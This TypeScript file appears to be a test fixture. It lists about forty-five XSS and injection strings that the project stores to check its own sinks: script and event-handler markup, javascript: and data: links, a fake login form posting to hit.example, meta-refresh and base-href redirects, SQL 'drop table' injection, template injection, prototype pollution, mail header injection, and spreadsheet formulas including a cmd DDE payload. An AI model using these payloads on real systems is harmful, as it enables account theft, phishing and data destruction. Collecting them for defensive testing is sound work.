// XSS and injection texts that anyone with the public key could store. The kinds follow the OWASP cheat sheet on filter
// evasion, the tests of DOMPurify and our own sinks (JSON, CSV, mail and phone links, URLs). The texts are our own.
// Code that runs calls hit(); a mere request goes to hit.example.

const markup = [
  // Scripts, and the end of the element around the text
  '<script>hit()</script>',
  '</script><script>hit()</script><!-- $& "quoted" -->',
  '</style></title></textarea></template></noscript></svg></math><img src=x onerror=hit()>',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  // Event handlers
  '<img src=x onerror=hit()>',
  '<svg onload=hit()><animate onbegin=hit() attributeName=x dur=1s>',
  '<p autofocus tabindex=1 onfocus=hit() onclick=hit()>oak</p>',
  '<b/onclick=hit()//style=position:fixed;inset:0>oak</b>',
  // Addresses that run code or leave the site
  '<a href="javascript:hit()">oak</a>',
  '<a href="java&#x0A;script&colon;hit()">oak</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==">oak</a>',
  '<form action=https://hit.example/a><input name=password><button>Log In</button></form>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<meta http-equiv=refresh content="0;url=https://hit.example/a">',
  '<base href="https://hit.example/">',
  // Changes of the page without a script
  '<style>@import"https://hit.example/a.css";body{display:none}</style>',
  '<p style="background:url(https://hit.example/a.gif)" class="fixed inset-0" role=alert>oak</p>',
  '<p id=root></p><img name=getElementById><p id=snapshot>{"rows":[]}</p>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit()&gt;">',
  // Malformed markup
  '"><img src=x onerror=hit()>',
  "' onmouseover='hit()",
  '<img src=x onerror=hit()',
  '<b><i><p><ul><li><h2><img src=x onerror=hit()></b></i></p></ul></h2>',
  '<scr\0ipt>hit()</scr\0ipt>',
  '\ufeff<\u200bscript>hit()</script>',
  '&lt;script&gt;hit()&lt;/script&gt;&#x3c;img src=x onerror=hit()&#x3e;',
]

const addresses = [
  'javascript:hit()',
  ' \u0001JaVa\tScRiPt:hit()',
  'data:text/html,<script>hit()</script>',
  '//hit.example/oak.jpg',
  'https://user:password@hit.example/oak.jpg',
  'https://hit.example/oak.jpg" onerror="hit()',
  'a@hit.example?bcc=b@hit.example&body=oak',
  'a@hit.example,b@hit.example\r\nBcc: c@hit.example',
  '*21*7345550111#;phone-context=hit.example',
]

const otherLanguages = [
  '{"__proto__":{"src":"https://hit.example/a"}}',
  '"}],"rows":[{"title":"<script>hit()</script>"}]}',
  "'; drop table blog_posts; --",
  '#{hit()} {{constructor.constructor("hit()")()}}',
  '.*+?^$()|[]\\',
  '\u202eeno era sdrow eseht\u2066',
  'oak\ud800',
  // Formulas of spreadsheets
  '=HYPERLINK("https://hit.example/a","oak")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*hit',
]

export type Payload = { number: number; text: string }

export const payloads: readonly Payload[] = [...markup, ...addresses, ...otherLanguages].map((text, index) => ({
  number: index + 1,
  text,
}))

/** Replaces null bytes, which a PostgreSQL text cannot contain, and lone surrogates. */
export const storable = (text: string) => text.replace(/\0|\p{Surrogate}/gu, '\ufffd')
